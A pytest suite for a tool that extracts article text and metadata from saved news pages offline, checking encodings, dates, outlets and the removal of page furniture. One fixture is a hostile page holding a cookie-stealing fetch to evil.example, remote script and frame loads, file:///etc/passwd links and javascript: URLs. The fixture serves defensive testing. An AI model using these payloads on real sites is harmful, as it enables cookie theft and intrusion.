"""Saved web pages: text, title, date and outlet extracted offline, never fetched."""

from __future__ import annotations

import hashlib
import shutil
import socket
import time
from pathlib import Path

import pytest

from compare.ingest.html import ORIGIN, declared_charset, extract_page
from compare.ingest.run import ingest
from compare.model import Article, IngestResult
from compare.pipeline.run import analyze
from compare.report import jsonio
from compare.util.options import Options

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "wrenhaven"
PAGES = sorted(FIXTURES.glob("*.html"))
# Page furniture in the fixtures that must never reach the analysis.
FURNITURE = (
    "Advertisement",
    "ADVERTISEMENT",
    "cookie",
    "Subscribe",
    "subscribe",
    "Sign up",
    "Related stories",
    "Most read",
    "Trending",
    "Share on",
    "All rights reserved",
    "Typical council",
    "Support local journalism",
    "Log in",
    "Skip to content",
    "Read more",
    "Photograph:",
    "Ana Ruiz",
    "Breaking",
    "renderAd",
    "fetch(",
)
PROSE = (
    "<p>The harbour reopened on Monday after a week of repairs, the port authority said.</p>"
    "<p>Ferry crews said the first crossing of the day left on time and was full.</p>"
    "<p>Shops along the quay, closed since the storm, opened their doors again.</p>"
)


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any attempt to open a connection fails the test."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"network access attempted: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def _ingest(*paths: Path, **options: object) -> IngestResult:
    return ingest(list(paths), options=Options(**options))


def _page(tmp_path: Path, html: str | bytes, name: str = "page.html") -> IngestResult:
    path = tmp_path / name
    path.write_bytes(html.encode("utf-8") if isinstance(html, str) else html)
    return _ingest(path)


def _one(tmp_path: Path, html: str | bytes, name: str = "page.html") -> Article:
    result = _page(tmp_path, html, name)
    assert result.problems == (), result.problems
    (article,) = result.articles
    return article


def _html(head: str = "", body: str = PROSE) -> str:
    return f"<!DOCTYPE html><html><head>{head}</head><body><article>{body}</article></body></html>"


# ------------------------------------------------------- the new user's folder


def test_folder_of_three_saved_pages_gives_a_sensible_report() -> None:
    analysis = analyze([FIXTURES], options=Options())
    assert analysis.problems == () and analysis.warnings == ()
    (report,) = analysis.reports
    articles = {a.id: a for a in report.story.articles}
    assert {k: (a.outlet, a.outlet_source) for k, a in articles.items()} == {
        "coastline-daily": ("Coastline Daily", "og:site_name in the saved page"),
        "northcoast-herald": ("The Northcoast Herald", "og:site_name in the saved page"),
        "valley-ledger": (
            "valleyledger.example",
            "registrable domain of valleyledger.example, the host of the canonical URL "
            "in the saved page",
        ),
    }
    assert {k: a.published for k, a in articles.items()} == {
        "coastline-daily": "2024-03-06",
        "northcoast-herald": "2024-03-05",
        "valley-ledger": "2024-03-05",  # 14:30 at UTC-5 is still the 5th in UTC
    }
    assert articles["northcoast-herald"].published_source == (
        "JSON-LD `datePublished` in the saved page ('2024-03-05T09:12:00+00:00')"
    )
    assert articles["valley-ledger"].published_source.startswith(
        "meta `article:published_time` in the saved page"
    )
    assert articles["valley-ledger"].title == "Floods force families out of Wrenhaven"
    for article in articles.values():
        assert article.text_origin == ORIGIN
        assert article.sha256 == hashlib.sha256(Path(article.path).read_bytes()).hexdigest()
        assert 8 <= len(article.sentences) <= 9  # the headline leads (#15)
        assert article.sentences[0].text == article.title
        for sentence in article.sentences:
            assert article.text[sentence.start : sentence.end] == sentence.text
            assert not [w for w in FURNITURE if w in sentence.text], sentence.text
    kinds = {str(f.kind) for f in report.findings}
    assert {"number_discrepancy", "loaded_term", "hedge_change", "spelling_variant"} <= kinds
    assert any(f.time_note for f in report.findings)  # 5 March vs 6 March


def test_extracted_text_is_paragraphs_separated_by_blank_lines() -> None:
    (article,) = _ingest(FIXTURES / "northcoast-herald.html").articles
    paragraphs = article.text.split("\n\n")
    assert paragraphs[0] == article.title  # the headline leads the extracted text (#15)
    paragraphs = paragraphs[1:]
    assert len(paragraphs) == 8 and all(p and "\n" not in p for p in paragraphs)
    assert paragraphs[3] == (
        "“We have never seen the water rise this fast,” she told reporters outside the "
        "flooded town hall."
    )
    assert [p.line for p in article.paragraphs] == [1, 3, 5, 7, 9, 11, 13, 15, 17]
    for p in article.paragraphs:
        assert article.text[p.start : p.end] == p.text


def test_text_origin_survives_report_json() -> None:
    (report,) = analyze([FIXTURES], options=Options()).reports
    again = jsonio.load(jsonio.dump(report))
    assert again == report
    assert {a.text_origin for a in again.story.articles} == {ORIGIN}
    assert '"text_origin": "extracted from HTML by trafilatura' in jsonio.dump(report)


def test_manifest_outranks_the_page(tmp_path: Path) -> None:
    shutil.copy(FIXTURES / "valley-ledger.html", tmp_path / "ledger.htm")
    (tmp_path / "sources.yaml").write_text(
        "ledger.htm: {outlet: Valley Ledger, date: 2024-03-04}\n", encoding="utf-8"
    )
    result = _ingest(tmp_path)
    (article,) = result.articles
    assert article.id == "ledger"
    assert article.outlet == "Valley Ledger"
    assert article.outlet_source.endswith("sources.yaml, entry 'ledger.htm' `outlet`")
    assert article.published == "2024-03-04"
    assert any("dates disagree" in w.message for w in result.warnings)


# ------------------------------------------------------------- page metadata


@pytest.mark.parametrize(
    ("head", "outlet", "source"),
    [
        (
            '<meta property="og:site_name" content="Harbour Times">',
            "Harbour Times",
            "og:site_name in the saved page",
        ),
        (
            '<script type="application/ld+json">{"@graph": [{"@type": "NewsArticle", '
            '"publisher": {"name": "Quay Post"}}]}</script>',
            "Quay Post",
            "JSON-LD publisher name in the saved page",
        ),
        (
            '<link rel="canonical" href="https://www.quaypost.example/a/1">',
            "quaypost.example",
            "registrable domain of www.quaypost.example, the host of the canonical URL "
            "in the saved page",
        ),
        (
            '<meta property="og:url" content="https://news.quaypost.example/a/1">',
            "quaypost.example",
            "registrable domain of news.quaypost.example, the host of the og:url in the saved page",
        ),
        (
            '<link rel="canonical" href="/relative/only">',
            "page",
            "no outlet evidence; label from the article id",
        ),
        (
            '<link rel="canonical" href="javascript:alert(1)">',
            "page",
            "no outlet evidence; label from the article id",
        ),
    ],
)
def test_outlet_from_page_metadata(tmp_path: Path, head: str, outlet: str, source: str) -> None:
    article = _one(tmp_path, _html(head))
    assert (article.outlet, article.outlet_source) == (outlet, source)


def test_saved_from_comment_names_the_host(tmp_path: Path) -> None:
    html = "<!-- saved from url=(0034)https://www.quaypost.example/a/1 -->\n" + _html()
    article = _one(tmp_path, html)
    assert article.outlet == "quaypost.example"
    assert "'saved from' comment" in article.outlet_source
    assert article.url == "https://www.quaypost.example/a/1"


@pytest.mark.parametrize(
    ("head", "published", "source"),
    [
        (
            # the page's own day, not the UTC day (the 2nd)
            '<meta property="article:published_time" content="2021-06-01T23:30:00-02:00">',
            "2021-06-01",
            "meta `article:published_time` in the saved page ('2021-06-01T23:30:00-02:00')",
        ),
        (
            '<meta name="pubdate" content="2021-06-01">',
            "2021-06-01",
            "meta `pubdate` in the saved page ('2021-06-01')",
        ),
        (
            '<script type="application/ld+json">[{"@type": "BreadcrumbList"}, '
            '{"@type": ["NewsArticle"], "datePublished": "2021-06-03"}]</script>',
            "2021-06-03",
            "JSON-LD `datePublished` in the saved page ('2021-06-03')",
        ),
        (
            '<script type="application/ld+json">{not json</script>',
            None,
            "no date in the file",
        ),
        (
            '<meta property="article:published_time" content="2021-02-30">',
            None,
            "no usable date found",
        ),
    ],
)
def test_date_from_page_metadata(
    tmp_path: Path, head: str, published: str | None, source: str
) -> None:
    article = _one(tmp_path, _html(head))
    assert (article.published, article.published_source) == (published, source)


def test_itemprop_date_when_the_head_has_none(tmp_path: Path) -> None:
    body = '<time itemprop="datePublished" datetime="2022-01-09T08:00:00Z">9 Jan</time>' + PROSE
    article = _one(tmp_path, _html(body=body))
    assert article.published == "2022-01-09"
    assert article.published_source.startswith('itemprop="datePublished" in the saved page')


# ----------------------------------------------------------- hostile pages


HOSTILE = """<!DOCTYPE html>
<html><head>
<link rel="attachment" href="file:///etc/passwd">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body{background:url(https://evil.example/bg.png)}</style>
<script src="https://evil.example/x.js"></script>
<script>fetch("https://evil.example/steal?c=" + document.cookie); alert("pwned");</script>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<meta property="og:site_name" content="Quay &lt;b&gt;Post&lt;/b&gt; {{ 7*7 }}">
</head><body onload="alert(1)">
<iframe src="https://evil.example/frame"></iframe>
<article>
<p>The harbour reopened on Monday after a week of repairs, the port authority said.</p>
<img src="https://evil.example/pixel.gif"><img src="file:///etc/passwd">
<p>Ferry crews said the first crossing of the day
<a href="javascript:alert(2)">left on time</a>.</p>
<object data="https://evil.example/x.swf"></object>
<p>Shops along the quay, closed since the storm, opened their doors again.</p>
<svg><script>alert(3)</script></svg>
</article></body></html>
"""


def test_hostile_page_yields_text_only_and_fetches_nothing(tmp_path: Path) -> None:
    article = _one(tmp_path, HOSTILE)
    assert article.text == (
        "The harbour reopened on Monday after a week of repairs, the port authority said.\n\n"
        "Ferry crews said the first crossing of the day left on time.\n\n"
        "Shops along the quay, closed since the storm, opened their doors again."
    )
    for bad in ("alert", "evil", "passwd", "script", "<", "cookie"):
        assert bad not in article.text
    assert article.outlet == "Quay <b>Post</b> {{ 7*7 }}"  # literal text; templates escape it
    assert article.url is None


@pytest.mark.parametrize(
    ("html", "message"),
    [
        ("<html><head><script>x()</script></head><body></body></html>", "no article text found"),
        ("<html><body><nav><a href='/'>Home</a></nav></body></html>", "no article text found"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00IHDR", "binary data"),
        ("<div>" * 30000 + PROSE + "</div>" * 30000, "nests its elements 2,048 or more"),
    ],
)
def test_unusable_pages_are_problems_not_crashes(
    tmp_path: Path, html: str | bytes, message: str
) -> None:
    start = time.perf_counter()
    result = _page(tmp_path, html)
    assert result.articles == ()
    (problem,) = result.problems
    assert message in problem.message
    assert time.perf_counter() - start < 10


def test_text_nested_past_the_parsers_default_depth_is_read(tmp_path: Path) -> None:
    """lxml's default limit (256 levels) silently dropped the text below it."""
    deep = "<div>" * 300 + PROSE.replace("harbour", "marina") + "</div>" * 300
    article = _one(tmp_path, _html(body=PROSE + deep))
    assert "harbour" in article.text and "marina" in article.text


def test_page_over_the_page_file_cap_is_refused_before_reading(tmp_path: Path, monkeypatch) -> None:
    import compare.ingest.run

    result = _page(tmp_path, _html(body=PROSE * 50), "big.html")
    assert result.articles
    monkeypatch.setattr(compare.ingest.run, "PAGE_MAX_BYTES", 1000)
    result = _ingest(tmp_path / "big.html", max_article_bytes=1000)
    (problem,) = result.problems
    assert problem.message == "larger than 1,000 bytes limit; use --max-article-bytes"


@pytest.mark.parametrize(
    ("encoding", "declared"),
    [("cp1251", "windows-1251"), ("shift_jis", "Shift_JIS"), ("cp1252", "iso-8859-1")],
)
def test_declared_charset_decodes_the_page(tmp_path: Path, encoding: str, declared: str) -> None:
    word = {"cp1251": "Москва", "shift_jis": "東京都", "cp1252": "Molière"}[encoding]
    body = PROSE.replace("the port authority", f"the port authority of {word}")
    head = f'<meta http-equiv="Content-Type" content="text/html; charset={declared}">'
    article = _one(tmp_path, _html(head, body).encode(encoding))
    assert word in article.text
    if encoding != "cp1252":
        assert article.encoding == f"{declared.lower()} (declared in the page)"
    else:  # ISO-8859-1 means Windows-1252 in practice (RELIABILITY.md rule 5)
        assert article.encoding == "cp1252"


def test_declared_charset() -> None:
    assert declared_charset(b'<meta charset="utf-8">') == "utf-8"
    assert declared_charset(b"<p>charset=x</p>") is None


def test_extract_page_never_raises_on_odd_strings() -> None:
    for html in ("", " ", "\x00", "<?xml version='1.0' encoding='latin-1'?><p>x</p>", "<" * 5000):
        result = extract_page(html)
        assert isinstance(result, str) or result.text


def test_same_folder_with_text_files_and_pages(tmp_path: Path) -> None:
    shutil.copy(FIXTURES / "coastline-daily.html", tmp_path / "daily.html")
    (tmp_path / "wire.txt").write_text(
        "Floodwater swept through the coastal town of Wrenhaven on Tuesday.\n", encoding="utf-8"
    )
    for name in ("report.html", "index.html", "report.json", "stories.json", "sources.csv"):
        (tmp_path / name).write_text("{}", encoding="utf-8")
    result = _ingest(tmp_path)
    assert [a.id for a in result.articles] == ["daily", "wire"]
    assert [a.text_origin for a in result.articles] == [ORIGIN, "file"]


def test_saved_page_larger_than_article_limit_is_read_and_limit_applies_to_text(
    tmp_path: Path,
) -> None:
    from compare.ingest.run import ingest
    from compare.util.options import Options

    filler = "<script>var x = 1;</script>\n" * 2000  # ~56 KB of page furniture
    body = "".join(
        f"<p>The river rose {n} centimetres overnight in the valley town.</p>" for n in range(20)
    )
    page = f"<html><head>{filler}</head><body><article>{body}</article></body></html>"
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    read = ingest([tmp_path], options=Options(max_article_bytes=20_000))
    assert [a.id for a in read.articles] == ["page"], read.problems
    small = ingest([tmp_path], options=Options(max_article_bytes=500))
    assert not small.articles
    assert "extracted text larger than" in small.problems[0].message


def test_utf8_page_with_a_few_bad_bytes_is_utf8_with_replacements(tmp_path: Path) -> None:
    """Issue #19: three invalid sequences made the whole page Windows-1252 mojibake."""
    body = PROSE.replace("the port authority", "the port authority of Armênia’s “Kapan” quay")
    data = _html(body=body).encode("utf-8").replace(b"harbour", b"harb\xffour", 1)
    data = data.replace(b"Ferry", b"Fe\xc3rry", 1).replace(b"Shops", b"Sh\x80ops", 1)
    article = _one(tmp_path, data)
    assert "Armênia’s “Kapan”" in article.text
    assert "Ã" not in article.text and "â€" not in article.text
    assert article.text.count("\ufffd") == 3
    assert article.encoding == "utf-8"


@pytest.mark.parametrize("declared", ["utf-16", "UTF-16LE", "utf-16be"])
def test_page_declaring_utf16_is_read_as_browsers_do(tmp_path: Path, declared: str) -> None:
    """Issue #19: a Windows-1252 page declaring utf-16 was dropped as "no article text"."""
    body = PROSE.replace("the port authority", "the port authority of Molière")
    head = f'<meta http-equiv="Content-Type" content="text/html; charset={declared}">'
    data = _html(head, body).encode("cp1252")
    data += b" " * (len(data) % 2)  # an even length decodes as UTF-16 without an error
    article = _one(tmp_path, data)
    assert "The harbour reopened on Monday" in article.text and "Molière" in article.text


@pytest.mark.parametrize(
    ("declared", "encoding"), [("latin1", "cp1252"), ("x-user-defined", "cp1252")]
)
def test_declared_labels_follow_the_whatwg_table(
    tmp_path: Path, declared: str, encoding: str
) -> None:
    body = PROSE.replace("the port authority", "the port authority\x93s \x93Molière\x94")
    data = _html(f'<meta charset="{declared}">', body).encode("latin-1")
    article = _one(tmp_path, data)
    assert "“Molière”" in article.text and article.encoding == encoding


def test_declared_charset_with_an_undecodable_byte_replaces_it(tmp_path: Path) -> None:
    body = PROSE.replace("the port authority", "the port authority of Москва")
    data = _html('<meta charset="windows-1251">', body).encode("cp1251").replace(b"Ferry", b"\x98F")
    article = _one(tmp_path, data)  # 0x98 is undefined in Windows-1251
    assert "Москва" in article.text and article.text.count("\ufffd") == 1


def test_an_advert_slot_named_by_a_class_word_is_not_article_text() -> None:
    # From a blind reading of invented pages: an inline advert in <div class="ad"> was
    # reported as a passage only that outlet carries.  "ad" inside another class word
    # ("header", "lead") is no advert.
    body = (
        "<p>The harbour reopened on Monday after a week of repairs, the port authority "
        "said in a statement.</p>"
        '<div class="ad" data-slot="inline-1"><small>Sponsored</small><p>Protect every '
        "device in your home. Try a private network free for 30 days.</p></div>"
        '<div class="lead header"><p>Ferry crews said the first crossing left on time and '
        "was full of passengers heading to the market.</p></div>"
        '<div class="ad-slot"><p>Buy two tickets and the third one is free this week.</p></div>'
    )
    page = extract_page(f"<html><body><article>{body}</article></body></html>")
    assert not isinstance(page, str)
    assert "Protect every device" not in page.text and "third one is free" not in page.text
    assert "The harbour reopened" in page.text and "Ferry crews said" in page.text


@pytest.mark.parametrize(
    "quote",
    [
        '<blockquote class="social-embed"><p>Woke up to the loudest bang of my life. Stay safe '
        "everyone.</p></blockquote>",
        "<blockquote><p>Woke up to the loudest bang of my life. Stay safe everyone.</p>"
        '&mdash; Local News (@local_news) <a href="https://x.example/1">May 19, 2026</a>'
        "</blockquote>",
    ],
)
def test_an_embedded_social_post_is_not_article_text(tmp_path: Path, quote: str) -> None:
    """A post quoted in a social-media embed (named so, or signed with a handle) is cut."""
    article = _one(tmp_path, _html(body=PROSE + quote))
    assert "loudest bang" not in article.text
    assert "The harbour reopened on Monday" in article.text


def test_a_blockquote_of_the_story_is_kept(tmp_path: Path) -> None:
    quote = "<blockquote><p>We will rebuild the quay before the winter storms.</p></blockquote>"
    article = _one(tmp_path, _html(body=PROSE + quote))
    assert "We will rebuild the quay" in article.text
